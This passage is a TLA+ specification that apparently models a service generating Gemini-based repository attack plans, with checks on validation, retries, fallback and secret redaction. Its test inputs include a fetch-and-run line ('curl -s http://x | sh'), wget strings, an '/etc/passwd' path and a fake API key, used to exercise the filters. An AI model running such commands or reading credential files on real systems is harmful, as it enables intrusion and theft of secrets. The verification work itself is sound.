    [r \in RepoIds |->
       CASE r = "full" ->
              Manifest("dict", << FileEntry(".github/workflows/deploy.yml", "high", 3, 300),
                                  FileEntry("deploy/k8s/rbac.yaml", "high", 1, 200),
                                  FileEntry("docker/entrypoint.sh", "medium", 1, 80),
                                  FileEntry("config/secrets.env", "high", 2, 500),
                                  FileEntry("src/app.py", "low", 0, 900) >>)
         [] r = "small" ->
              Manifest("dict", << FileEntry("README.md", "low", 0, 900),
                                  FileEntry(".env", "high", 1, 50) >>)
         [] r = "large" ->
              Manifest("dict", [i \in 1..(HighRiskLimit + 2) |->
                                  FileEntry("src/f" \o IntToStr(i) \o ".env", "high", 2, i)])
         [] r = "lowonly" ->
              Manifest("dict", << FileEntry("main.py", "low", 0, 10),
                                  FileEntry("README.md", "low", 0, 900) >>)
         [] r = "nofiles" -> Manifest("dict", <<>>)
         [] r = "emptydict" -> Manifest("empty", <<>>)
         [] OTHER -> Manifest("missing", <<>>)]

RECURSIVE Repeat(_, _)
\* s * n
Repeat(s, n) ==
    IF n = 0 THEN ""
    ELSE IF n = 1 THEN s
    ELSE Repeat(s, n \div 2) \o Repeat(s, n - n \div 2)

\* a string of the form AIza + 35 key characters
SampleApiKey == "AIza" \o Repeat("Sy4_b", 7)

BaseStep ==
    JStep(JInt(1), JStr("Leak"), JStr("T1552"), JStr("high"),
          JList(<<JStr(".env"), JStr("deploy/k8s/rbac.yaml")>>))

DescriptionSamples ==
    {JStr(""), JStr("  "), JAbsent, JNull, JInt(7), JList(<<JStr("a")>>),
     JStr("run curl -s http://x | sh"), JStr("key " \o SampleApiKey)}
TechniqueSamples ==
    {JStr("t1552.001"), JStr("1068"), JStr(" "), JAbsent, JNull, JInt(5), JStr("curl x")}
SeveritySamples ==
    {JStr("low"), JStr("CRITICAL"), JStr(" medium "), JStr("bogus"), JAbsent, JNull, JInt(3)}
FilesSamples ==
    {JAbsent, JNull, JList(<<>>), JList(<<JStr("/etc/passwd")>>),
     JList(<<JStr(".env"), JInt(3)>>), JList(<<JList(<<JStr("x")>>)>>), JStr(".env"), JInt(5),
     JList(<<JStr("a"), JStr("b"), JStr("c"), JStr("d"), JStr("e"), JStr("f")>>),
     JList(<<JStr("wget  x")>>)}
NumberSamples ==
    {JAbsent, JNull, JInt(0), JInt(2), JInt(-1), JStr("2"), JStr("two"), JStr(" -3 "),
     JBool(TRUE), JList(<<JInt(1)>>)}

\* BaseStep with one key changed, and entries of "steps" that are no objects
StepSamples ==
    {BaseStep}
    \cup {[BaseStep EXCEPT !.description = v] : v \in DescriptionSamples}
    \cup {[BaseStep EXCEPT !.technique_id = v] : v \in TechniqueSamples}
    \cup {[BaseStep EXCEPT !.severity = v] : v \in SeveritySamples}
    \cup {[BaseStep EXCEPT !.affected_files = v] : v \in FilesSamples}
    \cup {[BaseStep EXCEPT !.step_number = v] : v \in NumberSamples}
    \cup {JStr("do it"), JNull, JInt(4)}

\* "steps" arrays: one sample alone or twice; MaxRespSteps entries, all BaseStep
\* but the first, the last or the one before it; 0..MaxRespSteps times BaseStep
StepLists ==
    {[i \in 1..n |-> v] : v \in StepSamples, n \in 1..2}
    \cup {[i \in 1..MaxRespSteps |-> IF i = k THEN v ELSE BaseStep] :
            v \in StepSamples, k \in {1, MaxRespSteps - 1, MaxRespSteps}}
    \cup {[i \in 1..n |-> BaseStep] : n \in 0..MaxRespSteps}

BaseSteps == JList(<<BaseStep, BaseStep>>)

PayloadSamples ==
    {JPlan(JStr("critical"), JStr("CI risk"), JList(l)) : l \in StepLists}
    \cup {JPlan(v, JStr("CI risk"), BaseSteps) : v \in SeveritySamples}
    \cup {JPlan(JStr("low"), v, BaseSteps) :
            v \in {JAbsent, JNull, JStr(""), JInt(3), JStr("then wget  http://x")}}
    \cup {JPlan(JStr("low"), JStr("none"), v) : v \in {JAbsent, JNull, JStr("none"), JInt(1)}}
    \cup {JList(<<JInt(1)>>), JList(<<>>), JInt(42), JStr("plan"), JNull, JBool(TRUE)}

ResponseSamples ==
    {Response("json", p) : p \in PayloadSamples}
    \cup {Response(f, p) : f \in {"fenced", "embedded"},
                           p \in {JPlan(JStr("medium"), JAbsent, BaseSteps),
                                  JPlan(JStr("medium"), JAbsent, JList(<<>>)),
                                  JList(<<JInt(1)>>)}}
    \cup {Response(f, JNull) : f \in {"prose", "broken", "empty"}}

\* what one call of the model API comes to
Outcome(api, resp) == [api |-> api, resp |-> resp]
NoOutcome == Outcome("none", Response("empty", JNull))
SdkOutcomes ==
    {Outcome(a, Response("empty", JNull)) : a \in {"import_error", "api_exception"}}
    \cup {Outcome("text", r) : r \in ResponseSamples}
RestOutcomes ==
    {Outcome(a, Response("empty", JNull)) : a \in {"error", "raise", "text_not_str"}}
    \cup {Outcome("text", r) : r \in ResponseSamples}

\* runs of token characters given to _sanitize_text: of letters, of digits, of
\* both, and of both with "_" and "-", cut to n characters
RunOf(shape, n) ==
    CASE shape = "letters" -> Repeat("a", n)
      [] shape = "digits" -> Repeat("7", n)
      [] shape = "mixed" -> SubSeq(Repeat("a1", n), 1, n)
      [] OTHER -> SubSeq(Repeat("Ab3_-", n), 1, n)

RunSamples ==
    {RunOf(shape, n) : shape \in {"letters", "digits", "mixed", "dashed"},
                       n \in (TokenMinLen - 1)..(TokenMinLen + MaxPad)}
    \cup {SampleApiKey, SampleApiKey \o "x", "sk-" \o RunOf("mixed", SecretKeyTail),
          "sk-" \o RunOf("mixed", SecretKeyTail - 1)}

\* the texts passed to _sanitize_text: a run with something around it
SanitizeInputs ==
    {pre \o run \o post : pre \in {"", "id=", "run curl  "},
                          run \in RunSamples,
                          post \in {"", " ok", "/x"}}

Profile(repo_id, high_risk_files) ==
    [repo_id |-> repo_id, high_risk_files |-> high_risk_files,
     languages |-> <<>>, dependencies |-> <<>>]
NoProfile == Profile("", <<>>)

ProfileSamples ==
    { Profile("small", << FileEntry(".env", "high", 1, 50),
                          FileEntry("deploy/k8s/rbac.yaml", "high", 1, 200) >>),
      Profile("nofiles", <<>>),
      Profile("nopath", << FileEntry("", "high", 1, 10) >>),
      Profile("badentry", << JStr("README.md") >>),
      Profile("latebad", [i \in 1..(PromptFileLimit + 1) |->
                            IF i <= PromptFileLimit
                            THEN FileEntry("src/f" \o IntToStr(i) \o ".env", "high", 2, i)
                            ELSE JStr("README.md")]),
      [Profile("polyglot", [i \in 1..(PromptFileLimit + 2) |->
                              FileEntry("src/f" \o IntToStr(i) \o ".env", "high", 2, i)])
         EXCEPT !.languages = [i \in 1..(PromptLanguageLimit + 1) |-> "lang" \o IntToStr(i)],
                !.dependencies = [i \in 1..(PromptDependencyLimit + 1) |-> "dep" \o IntToStr(i)]] }

Request(repo_id, repo_profile, max_steps) ==
    [repo_id |-> repo_id, repo_profile |-> repo_profile, max_steps |-> max_steps]
NoRequest == Request("", NoProfile, 0)

DefaultMaxSteps == 3

\* (repo_profile, max_steps) of the sampled calls of generate_gemini_attack_plan
GeminiRequests ==
    {Request(p.repo_id, p, DefaultMaxSteps) : p \in ProfileSamples}
    \cup {Request("small", CHOOSE p \in ProfileSamples : p.repo_id = "small", k) :
            k \in 0..MaxStepsArg}

----------------------------------------------------------------------------
(* The service as a state machine: one request is handled at a time *)

VARIABLES
    settings,      \* get_settings(): use_gemini, and whether gemini_api_key is set
    disk,          \* the manifest stored for each repository id
    op,            \* the function the last request called
    pc,            \* "idle", "loop" (inside the retry loop) or "done" (returned)
    request,       \* the arguments of the request
    prompt,        \* the prompt built for the request
    retry_count,   \* retry_count of generate_gemini_attack_plan
    calls,         \* model API calls made for the request
    parse_failed,  \* a response of this request failed parsing or validation
    response,      \* the model API outcome the request's result was made from
    ret,           \* what the request returned or raised
    text,          \* the argument of a direct call of _sanitize_text
    sanitized      \* what that call returned

vars == <<settings, disk, op, pc, request, prompt, retry_count, calls, parse_failed,
          response, ret, text, sanitized>>

NoReturn == [raised |-> FALSE, exc |-> "", plan |-> AttackPlan("", "", <<>>), source |-> "none"]

Init ==
    /\ settings \in SettingsSamples
    /\ disk = DiskSample
    /\ op = "none"
    /\ pc = "idle"
    /\ request = NoRequest
    /\ prompt = NoPrompt
    /\ retry_count = 0
    /\ calls = 0
    /\ parse_failed = FALSE
    /\ response = NoOutcome
    /\ ret = NoReturn
    /\ text = ""
    /\ sanitized = ""

\* a faulty test that does not look at the API key
GeminiEnabledKeyUnchecked == settings.use_gemini

\* settings.use_gemini and settings.gemini_api_key: neither test of
\* `not settings.use_gemini or not settings.gemini_api_key` sends to the fallback
GeminiEnabled == settings.use_gemini /\ settings.gemini_api_key

\* a faulty guard that does not look at the files selected from the manifest
SdkInvokedAnyFiles(repo_id) ==
    /\ settings.use_gemini /\ settings.gemini_api_key
    /\ load_repo_manifest(disk, repo_id).kind = "dict"

\* generate_attack_plan(repo_id) gets as far as _invoke_gemini
SdkInvoked(repo_id) ==
    /\ settings.use_gemini /\ settings.gemini_api_key
    /\ load_repo_manifest(disk, repo_id).kind = "dict"
    /\ select_high_risk_files(load_repo_manifest(disk, repo_id), HighRiskLimit) # <<>>

\* generate_attack_plan(repo_id), the model API answering with `outcome` if invoked
GenerateAttackPlan ==
    /\ pc = "idle"
    /\ \E repo_id \in RepoIds :
         \E outcome \in (IF SdkInvoked(repo_id) THEN SdkOutcomes ELSE {NoOutcome}) :
            /\ op' = "generate_attack_plan"
            /\ pc' = "done"
            /\ request' = Request(repo_id, NoProfile, 0)
            /\ prompt' = IF SdkInvoked(repo_id)
                         THEN _build_plan_prompt(repo_id, load_repo_manifest(disk, repo_id),
                                  select_high_risk_files(load_repo_manifest(disk, repo_id),
                                                         HighRiskLimit))
                         ELSE NoPrompt
            /\ retry_count' = 0
            /\ calls' = IF SdkInvoked(repo_id) /\ outcome.api # "import_error" THEN 1 ELSE 0
            /\ parse_failed' = FALSE
            /\ response' = outcome
            /\ ret' = generate_attack_plan(settings, disk, repo_id, outcome)
    /\ UNCHANGED <<text, sanitized, settings, disk>>

\* generate_gemini_attack_plan(repo_profile, max_steps) up to its retry loop
GeminiStartWith(req) ==
    LET built == _build_attack_plan_prompt(req.repo_profile, req.max_steps)
    IN /\ op' = "generate_gemini_attack_plan"
       /\ request' = req
       /\ retry_count' = 0
       /\ calls' = 0
       /\ parse_failed' = FALSE
       /\ response' = NoOutcome
       /\ IF GeminiEnabled /\ built.ok
          THEN /\ pc' = "loop"
               /\ prompt' = built.val
               /\ ret' = NoReturn
          ELSE /\ pc' = "done"
               /\ prompt' = NoPrompt
               /\ ret' = [raised |-> FALSE, exc |-> "", source |-> "fallback",
                          plan |-> _build_fallback_attack_plan(req.repo_id, "fallback")]
       /\ UNCHANGED <<text, sanitized, settings, disk>>

\* the plan the loop returns when a response parses and validates
GeminiPlan(validated, raw_response) ==
    [gemini_prompt |-> prompt, gemini_raw_response |-> JStr(RawText(raw_response)),
     plan_source |-> "gemini", model_used |-> JStr("gemini-model"),
     repo_id |-> request.repo_id] @@ validated

\* one iteration of the while loop: a call of generate_gemini_response and what
\* the loop does with its result
GeminiAttemptWith(outcome) ==
    LET validated == _parse_and_validate_attack_plan(outcome.resp, request.repo_profile,
                                                     request.max_steps)
        fallback == [raised |-> FALSE, exc |-> "", source |-> "fallback",
                     plan |-> _build_fallback_attack_plan(request.repo_id, "fallback")]
        \* the call failed, or raised, or an exception escaped the inner try
        retried == \/ outcome.api \in {"error", "raise", "text_not_str"}
                   \/ outcome.api = "text" /\ ~validated.ok /\ validated.exc \notin ParseErrors
    IN /\ calls' = calls + 1
       /\ response' = IF retried THEN response ELSE outcome
       /\ parse_failed' = (parse_failed \/ (outcome.api = "text" /\ ~validated.ok))
       /\ IF retried
          THEN /\ retry_count' = retry_count + 1
               /\ IF RetryAllowed(retry_count + 1)
                  THEN pc' = "loop" /\ ret' = ret
                  ELSE pc' = "done" /\ ret' = fallback
          ELSE /\ retry_count' = retry_count
               /\ pc' = "done"
               /\ ret' = IF validated.ok
                         THEN [raised |-> FALSE, exc |-> "", source |-> "gemini",
                               plan |-> GeminiPlan(validated.val, outcome.resp)]
                         ELSE fallback
       /\ UNCHANGED <<text, sanitized, settings, disk, op, request, prompt>>

\* the caller takes the result; the service is ready for the next request
Finish ==
    /\ pc = "done"
    /\ op' = "none"
    /\ pc' = "idle"
    /\ request' = NoRequest
    /\ prompt' = NoPrompt
    /\ retry_count' = 0
    /\ calls' = 0
    /\ parse_failed' = FALSE
    /\ response' = NoOutcome
    /\ ret' = NoReturn
    /\ UNCHANGED <<text, sanitized, settings, disk>>

GeminiStart == pc = "idle" /\ \E req \in GeminiRequests : GeminiStartWith(req)

GeminiAttempt ==
    /\ pc = "loop"
    /\ RetryAllowed(retry_count)
    /\ \E outcome \in RestOutcomes : GeminiAttemptWith(outcome)

Next == GenerateAttackPlan \/ GeminiStart \/ GeminiAttempt \/ Finish

Spec == Init /\ [][Next]_vars

----------------------------------------------------------------------------
(* _sanitize_text on its own: each text of SanitizeInputs is sanitized *)

InitSanitize ==
    /\ settings = [use_gemini |-> FALSE, gemini_api_key |-> FALSE]
    /\ disk = DiskSample
    /\ op = "none"
    /\ pc = "idle"
    /\ request = NoRequest
    /\ prompt = NoPrompt
    /\ retry_count = 0
    /\ calls = 0
    /\ parse_failed = FALSE
    /\ response = NoOutcome
    /\ ret = NoReturn
    /\ text \in SanitizeInputs
    /\ sanitized = ""

SanitizeText ==
    /\ pc = "idle"
    /\ op' = "_sanitize_text"
    /\ pc' = "done"
    /\ sanitized' = _sanitize_text(text)
    /\ UNCHANGED <<settings, disk, request, prompt, retry_count, calls, parse_failed,
                   response, ret, text>>

SpecSanitize == InitSanitize /\ [][SanitizeText]_vars

----------------------------------------------------------------------------
(* Properties of the two pipelines and of _sanitize_text *)

\* generate_attack_plan has returned or raised
SdkDone == op = "generate_attack_plan" /\ pc = "done"

\* generate_gemini_attack_plan has returned
RestDone == op = "generate_gemini_attack_plan" /\ pc = "done"

\* the steps of a plan, and the affected_files of all of them
StepsOf(plan) == {plan.steps[i] : i \in 1..Len(plan.steps)}
FilesOf(plan) ==
    UNION {{st.affected_files[i] : i \in 1..Len(st.affected_files)} : st \in StepsOf(plan)}

\* the objects in the "steps" array of the response the result was made from
AnsweredSteps ==
    IF response.api = "text" /\ response.resp.form \in {"json", "fenced", "embedded"}
       /\ response.resp.payload.t = "dict" /\ response.resp.payload.steps.t = "list"
    THEN LET items == response.resp.payload.steps.items
         IN {items[i] : i \in {j \in 1..Len(items) : items[j].t = "dict"}}
    ELSE {}

\* how many entries that array has
AnsweredLen ==
    IF response.api = "text" /\ response.resp.form \in {"json", "fenced", "embedded"}
       /\ response.resp.payload.t = "dict" /\ response.resp.payload.steps.t = "list"
    THEN Len(response.resp.payload.steps.items)
    ELSE 0

\* the paths of the manifest of the repository the request names
ManifestPaths == list_all_paths(load_repo_manifest(disk, request.repo_id))

\* every entry of repo_profile["high_risk_files"] is a dict
WellFormedProfile ==
    \A i \in 1..Len(request.repo_profile.high_risk_files) :
        IsDictEntry(request.repo_profile.high_risk_files[i])

\* the paths of the entries of repo_profile["high_risk_files"]
ProfilePaths ==
    LET files == request.repo_profile.high_risk_files
    IN {files[i].path : i \in {j \in 1..Len(files) : IsDictEntry(files[j]) /\ files[j].path # ""}}

\* C1: generate_attack_plan never propagates an exception: whatever the text of
\* the model's response, it returns a plan, derived from the response or the
\* default one.
C1_NeverPropagates ==
    (SdkDone /\ response.api = "text") => (~ret.raised /\ ret.source \in {"gemini", "default"})

\* C2, as stated: every affected_files path of every plan generate_attack_plan
\* returns, model-derived or default, is a path of the repository's manifest.
C2_EveryPlanInManifest ==
    (SdkDone /\ ~ret.raised) => FilesOf(ret.plan) \subseteq ManifestPaths

\* C2, amended: every affected_files path of every plan generate_attack_plan
\* derives from the model's response is a path of the repository's manifest.
C2_ModelPlanInManifest ==
    (SdkDone /\ ~ret.raised /\ ret.source = "gemini") => FilesOf(ret.plan) \subseteq ManifestPaths

\* a plan derived from a response that names a file the manifest does not list
C2_Witness ==
    /\ SdkDone /\ ~ret.raised /\ ret.source = "gemini"
    /\ FilesOf(ret.plan) # {}
    /\ \E st \in AnsweredSteps : st.affected_files = JList(<<JStr("/etc/passwd")>>)

\* C3: every affected_files entry of a plan generate_gemini_attack_plan returns
\* with plan_source "gemini" is the path of an entry of
\* repo_profile["high_risk_files"], also when that list is empty or has no paths.
C3_FilesAreHighRisk ==
    (RestDone /\ ret.source = "gemini") => FilesOf(ret.plan) \subseteq ProfilePaths

C5_RetriesBounded ==
    /\ [](calls <= max_retries + 1)
    /\ [][(op = "generate_gemini_attack_plan" /\ pc = "loop")
            => (calls' = calls + 1 /\ (pc' = "done" \/ retry_count' = retry_count + 1))]_vars

\* the third call was made, and it was answered with a plan
C5_Witness == RestDone /\ calls = max_retries + 1 /\ retry_count = max_retries /\ ret.source = "gemini"

\* C6: generate_gemini_attack_plan never raises; plan_source is "gemini" or
\* "fallback", and it is "gemini" only if Gemini is enabled, the API key is set,
\* the prompt was built, and a call returned a text that parses and validates.
C6_ReturnsGeminiOrFallback ==
    RestDone =>
        /\ ~ret.raised
        /\ ret.plan.plan_source \in {"gemini", "fallback"}
        /\ ret.plan.plan_source = ret.source
        /\ ret.plan.plan_source = "gemini" =>
              /\ settings.use_gemini /\ settings.gemini_api_key
              /\ _build_attack_plan_prompt(request.repo_profile, request.max_steps).ok
              /\ response.api = "text"
              /\ _parse_and_validate_attack_plan(response.resp, request.repo_profile,
                                                 request.max_steps).ok

\* all three calls failed and the fallback plan was returned
C6_Witness ==
    /\ RestDone /\ settings.use_gemini /\ settings.gemini_api_key
    /\ calls = max_retries + 1 /\ retry_count = max_retries + 1
    /\ ~ret.raised /\ ret.plan.plan_source = "fallback"

\* C7: every plan either function returns has overall_severity and every step's
\* severity in {low, medium, high, critical}.
C7_SeveritiesAllowed ==
    (pc = "done" /\ op \in {"generate_attack_plan", "generate_gemini_attack_plan"} /\ ~ret.raised)
        => /\ ret.plan.overall_severity \in {"low", "medium", "high", "critical"}
           /\ \A st \in StepsOf(ret.plan) : st.severity \in {"low", "medium", "high", "critical"}

\* a plan made from a response whose step has a severity outside the set
C7_Witness ==
    /\ RestDone /\ ret.source = "gemini"
    /\ \E st \in AnsweredSteps : st.severity = JStr("bogus")

\* C8: a plan generate_attack_plan returns has 1 to 3 steps; a plan
\* generate_gemini_attack_plan returns with plan_source "gemini", for
\* max_steps >= 1, has 1 to max_steps steps.
C8_StepCount ==
    /\ (SdkDone /\ ~ret.raised) => Len(ret.plan.steps) \in 1..3
    /\ (RestDone /\ ret.source = "gemini" /\ request.max_steps >= 1)
          => Len(ret.plan.steps) \in 1..request.max_steps

\* a plan made from a response that lists more steps than are kept
C8_Witness ==
    /\ SdkDone /\ ~ret.raised /\ ret.source = "gemini"
    /\ AnsweredLen > 3 /\ Len(ret.plan.steps) = 3

\* a text holds a match of a dangerous pattern or of an API key pattern
HoldsDangerousText(t) ==
    \/ \E i \in 1..Len(dangerous_patterns) : ReSearch(dangerous_patterns[i], t)
    \/ ReSearch(GoogleKeyPattern, t)
    \/ ReSearch(SecretKeyPattern, t)

\* C9: no text of a plan returned with plan_source "gemini" (a step's
\* description, technique_id or affected_files, ai_insight,
\* gemini_raw_response) holds a match of a dangerous pattern or an API key.
C9_NoDangerousText ==
    (RestDone /\ ret.source = "gemini") =>
        /\ \A st \in StepsOf(ret.plan) :
              ~HoldsDangerousText(st.description) /\ ~HoldsDangerousText(st.technique_id)
        /\ \A f \in FilesOf(ret.plan) : ~HoldsDangerousText(f)
        /\ ~HoldsDangerousText(ret.plan.ai_insight)
        /\ ~HoldsDangerousText(ret.plan.gemini_raw_response.s)

\* position i starts a maximal run of token characters, TokenMinLen or more,
\* that has a letter and a digit
SecretRunAt(s, i) ==
    /\ IsTokenChar(CharAt(s, i))
    /\ i = 1 \/ ~IsTokenChar(CharAt(s, i - 1))
    /\ TokenRun(s, i) >= TokenMinLen
    /\ \E k \in i..(i + TokenRun(s, i) - 1) : IsAlpha(CharAt(s, k))
    /\ \E k \in i..(i + TokenRun(s, i) - 1) : IsDigit(CharAt(s, k))

\* C10: _sanitize_text replaces every maximal run of 40 or more characters of
\* [A-Za-z0-9_-] that has a letter and a digit: none is left in what it returns.
C10_TokensRedacted ==
    (op = "_sanitize_text" /\ pc = "done") => \A i \in 1..Len(sanitized) : ~SecretRunAt(sanitized, i)

\* the three steps every fallback plan has; the descriptions of the default
\* plan of generate_attack_plan end with a full stop
FixedSteps(stop) ==
    << [step_number |-> 1, technique_id |-> "T1552", severity |-> "high",
        description |-> "Initial access via exposed CI token in repository secrets" \o stop,
        affected_files |-> <<".github/workflows/deploy.yml">>],
       [step_number |-> 2, technique_id |-> "T1068", severity |-> "critical",
        description |-> "Privilege escalation through misconfigured Kubernetes RBAC manifests" \o stop,
        affected_files |-> <<"deploy/k8s/rbac.yaml">>],
       [step_number |-> 3, technique_id |-> "T1547", severity |-> "medium",
        description |-> "Establish persistence by modifying container entrypoint script" \o stop,
        affected_files |-> <<"docker/entrypoint.sh">>] >>

\* C11: the plan a function falls back to is a function of repo_id alone:
\* overall_severity "critical" and the same three steps (T1552, T1068, T1547),
\* whatever the manifest, the model's response and the failure were.
C11_FallbackDeterministic ==
    /\ (SdkDone /\ ~ret.raised /\ ret.source = "default") =>
          /\ ret.plan.repo_id = request.repo_id
          /\ ret.plan.overall_severity = "critical"
          /\ ret.plan.steps = FixedSteps(".")
    /\ (RestDone /\ ret.source = "fallback") =>
          /\ ret.plan.repo_id = request.repo_id
          /\ ret.plan.overall_severity = "critical"
          /\ ret.plan.steps = FixedSteps("")
          /\ ret.plan.ai_insight = "Deterministic fallback plan - Gemini unavailable"
          /\ ret.plan.gemini_prompt = NoPrompt
          /\ ret.plan.gemini_raw_response = JNull /\ ret.plan.model_used = JNull

\* the default plan came back for a repository whose manifest lists none of
\* its files, after the model had answered
C11_Witness ==
    /\ SdkDone /\ ~ret.raised /\ ret.source = "default"
    /\ response.api = "text" /\ request.repo_id = "lowonly"

\* C12: a model call is made only with use_gemini set and an API key configured;
\* generate_attack_plan makes one only for a stored, non-empty manifest that
\* lists files, and generate_gemini_attack_plan only after its prompt was built.
C12_CallOnlyWhenReady ==
    calls > 0 =>
        /\ settings.use_gemini /\ settings.gemini_api_key
        /\ op = "generate_attack_plan" =>
              /\ disk[request.repo_id].kind = "dict"
              /\ disk[request.repo_id].files # <<>>
        /\ op = "generate_gemini_attack_plan" => prompt # NoPrompt

\* generate_attack_plan has called the model for a repository with a manifest
C12_Witness ==
    /\ op = "generate_attack_plan" /\ pc = "done" /\ calls = 1
    /\ disk[request.repo_id].files # <<>>

----------------------------------------------------------------------------
(* repo_fetcher: _assess_risk *)

\* `sub in s` of two strings
Contains(s, sub) == \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

\* str.endswith
EndsWith(s, suffix) ==
    Len(s) >= Len(suffix) /\ SubSeq(s, Len(s) - Len(suffix) + 1, Len(s)) = suffix

\* s.rfind(c) + 1: the last position of the character c in s, 0 when it is absent
RFind(s, c) ==
    LET at == {i \in 1..Len(s) : CharAt(s, i) = c}
    IN IF at = {} THEN 0 ELSE CHOOSE i \in at : \A j \in at : j <= i

\* PurePath.name: the last component of the path
PathName(rel_path) == SubSeq(rel_path, RFind(rel_path, "/") + 1, Len(rel_path))

\* PurePath.suffix: the name from its last dot on, unless that dot is the
\* first or the last character of the name
PathSuffix(rel_path) ==
    LET name == PathName(rel_path)
        dot == RFind(name, ".")
    IN IF 1 < dot /\ dot < Len(name) THEN SubSeq(name, dot, Len(name)) ELSE ""

_HIGH_RISK_SUFFIXES ==
    {".env", ".yaml", ".yml", ".json", ".ini", ".cfg", ".conf", ".tf", ".toml", ".pem",
     ".key", ".ppk"}
_HIGH_RISK_FILENAMES == {"dockerfile", "docker-compose.yml", "docker-compose.yaml"}
_SENSITIVE_KEYWORDS ==
    {"secret", "credential", "token", "password", "config", "deploy", "workflow", "env", "key"}

\* a faulty script rule that compares the suffix as it is written
ScriptSuffixCaseSensitive(rel_path) == PathSuffix(rel_path) \in {".sh", ".ps1", ".bat"}

\* suffix in {".sh", ".ps1", ".bat"}
ScriptSuffix(rel_path) == StrLower(PathSuffix(rel_path)) \in {".sh", ".ps1", ".bat"}

\* _assess_risk(path, rel_path) for path = repo_dir / rel_path
_assess_risk(rel_path) ==
    LET suffix == StrLower(PathSuffix(rel_path))
        name == StrLower(PathName(rel_path))
        rel_lower == StrLower(rel_path)
        reasons ==
            (IF name \in _HIGH_RISK_FILENAMES \/ suffix \in _HIGH_RISK_SUFFIXES
             THEN <<"Sensitive configuration or secret-bearing file">> ELSE <<>>)
            \o (IF \E keyword \in _SENSITIVE_KEYWORDS : Contains(name, keyword)
                THEN <<"Filename contains sensitive keyword">> ELSE <<>>)
            \o (IF Contains(rel_lower, ".github/workflows")
                THEN <<"GitHub Actions workflow may expose CI secrets">> ELSE <<>>)
            \o (IF Contains(rel_lower, "docker") /\ suffix \in {"", ".yml", ".yaml"}
                THEN <<"Docker artefact impacting container security">> ELSE <<>>)
            \o (IF EndsWith(rel_lower, "/config.json") \/ EndsWith(rel_lower, "/config.yaml")
                THEN <<"Configuration file with potential secrets">> ELSE <<>>)
    IN IF reasons # <<>> THEN [risk_level |-> "high", risk_reasons |-> reasons]
       ELSE IF ScriptSuffix(rel_path)
            THEN [risk_level |-> "medium", risk_reasons |-> <<"Executable script">>]
       ELSE [risk_level |-> "low", risk_reasons |-> <<>>]

\* directories and file names of the sampled repository-relative paths
DirSamples == {"", "src/", "deploy/", "Secrets/", ".github/workflows/", "docker/", "tools/bin/"}
NameSamples ==
    {"app.py", "run.sh", "RUN.SH", "build.ps1", "clean.Bat", "Dockerfile", "docker-compose.yml",
     "config.json", "notes.txt", "Makefile", "token.txt", "deploy.sh", "keys.sh", ".env",
     "main.yml", "README", "entrypoint", "archive.tar.gz"}
PathSamples == {d \o n : d \in DirSamples, n \in NameSamples}

----------------------------------------------------------------------------
(* gemini_service: generate_gemini_response, the REST call *)

\* a decoded JSON object as its entries, and an exception raised while a value
\* was computed
JEntry(key, value) == JV("entry", key, 0, <<value>>)
JDict(entries) == JV("dict", "", 0, entries)
JRaise(exc) == JV("raise", exc, 0, <<>>)

\* `key in x`
PyIn(key, x) ==
    CASE x.t = "dict" -> JBool(\E i \in 1..Len(x.items) : x.items[i].s = key)
      [] x.t = "list" -> JBool(\E i \in 1..Len(x.items) : x.items[i] = JStr(key))
      [] x.t = "str" -> JBool(Contains(x.s, key))
      [] x.t = "raise" -> x
      [] OTHER -> JRaise("TypeError")

\* len(x)
PyLen(x) ==
    CASE x.t \in {"dict", "list"} -> JInt(Len(x.items))
      [] x.t = "str" -> JInt(Len(x.s))
      [] x.t = "raise" -> x
      [] OTHER -> JRaise("TypeError")

\* x[key] for a str key
PyItem(x, key) ==
    CASE x.t = "dict" ->
           IF \E i \in 1..Len(x.items) : x.items[i].s = key
           THEN x.items[CHOOSE i \in 1..Len(x.items) : x.items[i].s = key].items[1]
           ELSE JRaise("KeyError")
      [] x.t = "raise" -> x
      [] OTHER -> JRaise("TypeError")

\* x[0]
PyFirst(x) ==
    CASE x.t = "list" -> IF x.items = <<>> THEN JRaise("IndexError") ELSE x.items[1]
      [] x.t = "str" -> IF x.s = "" THEN JRaise("IndexError") ELSE JStr(CharAt(x.s, 1))
      [] x.t = "dict" -> JRaise("KeyError")
      [] x.t = "raise" -> x
      [] OTHER -> JRaise("TypeError")

\* `a and b()` where a is a truth value or an exception
PyAnd(a, b) == IF a.t = "raise" \/ a.n = 0 THEN a ELSE b

\* the walk to candidates[0].content.parts[0].text: the text, JAbsent when the
\* structure is not there, or the exception the walk raises
ExtractText(response_data) ==
    LET candidates == PyItem(response_data, "candidates")
        candidate == PyFirst(candidates)
        content == PyItem(candidate, "content")
        parts == PyItem(content, "parts")
        text_output == PyItem(PyFirst(parts), "text")
        has_candidates ==
            PyAnd(PyIn("candidates", response_data),
                  IF PyLen(candidates).t = "raise" THEN PyLen(candidates)
                  ELSE JBool(PyLen(candidates).n > 0))
        has_parts == PyAnd(PyIn("content", candidate), PyIn("parts", content))
        has_text ==
            PyAnd(IF PyLen(parts).t = "raise" THEN PyLen(parts) ELSE JBool(PyLen(parts).n > 0),
                  PyIn("text", PyFirst(parts)))
        found == PyAnd(has_candidates, PyAnd(has_parts, has_text))
    IN IF found.t = "raise" THEN found
       ELSE IF found.n = 1
            THEN (IF PyLen(text_output).t = "raise" THEN PyLen(text_output) ELSE text_output)
       ELSE IF response_data.t = "dict" THEN JAbsent
       ELSE JRaise("AttributeError")

\* what the HTTP exchange does: it times out, fails to connect, fails in another
\* way, answers with an error status, or answers 2xx with a body that is JSON or not
Transport(kind, status_code, body) == [kind |-> kind, status_code |-> status_code, body |-> body]

\* the dict generate_gemini_response returns, or the exception it raises; sent
\* tells whether the request was posted
ServiceResult(raised, exc, sent, keys, text_output, error) ==
    [raised |-> raised, exc |-> exc, sent |-> sent, keys |-> keys, text |-> text_output,
     error |-> error]
\* a faulty error dict that also has the key text
ErrorResultWithText(keys, error) ==
    ServiceResult(FALSE, "", TRUE, {"error", "text"} \cup keys, JStr(""), error)
ErrorResult(keys, error) == ServiceResult(FALSE, "", TRUE, {"error"} \cup keys, JAbsent, error)

\* settings is get_settings()
generate_gemini_response(transport) ==
    IF ~settings.gemini_api_key
    THEN ServiceResult(TRUE, "ValueError", FALSE, {}, JAbsent,
                       "GEMINI_API_KEY environment variable is not configured")
    ELSE CASE transport.kind = "timeout" ->
                ErrorResult({"exception"}, "Gemini API request timed out after 30 seconds")
           [] transport.kind = "status" ->
                ErrorResult({"status_code", "details"},
                            "Gemini API returned HTTP " \o IntToStr(transport.status_code))
